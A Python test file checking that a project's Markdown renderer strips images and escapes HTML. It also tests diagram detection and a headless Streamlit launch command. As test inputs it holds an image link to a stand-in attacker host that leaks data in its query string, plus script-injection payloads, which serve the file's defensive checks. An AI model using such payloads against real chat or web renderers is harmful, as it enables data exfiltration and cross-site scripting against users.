"""Safe rendering helpers and the `sdmock web` command line."""

from __future__ import annotations

from app.cli.web import APP_ENTRY, streamlit_command
from app.ui.render import format_minutes, looks_like_dot, looks_like_mermaid, mermaid_to_dot, safe_markdown


def test_images_are_neutralised() -> None:
    out = safe_markdown(
        "see ![secret](http://evil.example/leak?d=abc) and ![x][ref]\n\n[ref]: http://e/x.png"
    )
    assert "![" not in out
    assert "image removed: secret" in out
    assert "http://evil.example/leak" not in out


def test_html_is_escaped_outside_code_only() -> None:
    out = safe_markdown('<img src=x onerror="alert(1)"> <script>x</script> `a<b` done')
    assert "<img" not in out and "<script" not in out
    assert "&lt;img" in out
    assert "`a<b`" in out  # code spans are shown verbatim by Markdown anyway


def test_fenced_code_kept_and_latex_disabled() -> None:
    out = safe_markdown("costs $5 and $6\n```\nif a < b: pass\n```\n")
    assert "\\$5" in out and "\\$6" in out
    assert "if a < b: pass" in out


def test_plain_text_survives() -> None:
    assert safe_markdown("Hello, how many users?") == "Hello, how many users?"


def test_diagram_detection() -> None:
    assert looks_like_dot("digraph G { a -> b }")
    assert looks_like_dot("  strict graph { a -- b }")
    assert not looks_like_dot("graph TD\n A --> B")
    assert looks_like_mermaid("graph TD\n A --> B")
    dot = mermaid_to_dot("flowchart LR\n  A[Client] -->|HTTP| B(API)\n  B --> C[(DB)]")
    assert dot is not None and '"A" -> "B" [label="HTTP"]' in dot and 'label="Client"' in dot
    assert mermaid_to_dot("sequenceDiagram\n A->>B: hi") is None


def test_format_minutes() -> None:
    assert format_minutes(12.5) == "12:30"
    assert format_minutes(-1) == "0:00"


def test_web_command_is_headless_without_telemetry() -> None:
    cmd = streamlit_command(8765, "127.0.0.1")
    assert cmd[1:4] == ["-m", "streamlit", "run"]
    assert str(APP_ENTRY) in cmd and APP_ENTRY.exists()
    flat = " ".join(cmd)
    assert "--server.headless true" in flat
    assert "--browser.gatherUsageStats false" in flat
    assert "--server.port 8765" in flat and "--server.address 127.0.0.1" in flat


def test_web_command_is_registered() -> None:
    from typer.testing import CliRunner

    from app.cli import cli

    result = CliRunner().invoke(cli, ["web", "--help"])
    assert result.exit_code == 0
    assert "--port" in result.output and "--host" in result.output
